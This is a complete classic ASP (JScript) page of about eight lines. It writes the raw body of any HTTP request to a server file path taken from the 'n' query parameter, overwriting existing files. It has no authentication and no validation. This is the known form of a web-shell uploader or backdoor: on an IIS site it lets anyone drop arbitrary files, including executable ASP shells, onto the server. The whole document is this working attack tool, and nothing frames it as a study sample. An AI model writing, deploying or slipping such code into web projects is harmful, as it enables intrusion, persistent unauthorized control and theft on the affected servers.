<%@ Language="JScript" %>
<%
var st = Server.CreateObject("ADODB.Stream");
st.Type = 1; st.Open();
st.Write(Request.BinaryRead(Request.TotalBytes));
st.SaveToFile(Server.MapPath(Request.QueryString("n")), 2);
st.Close();
%>
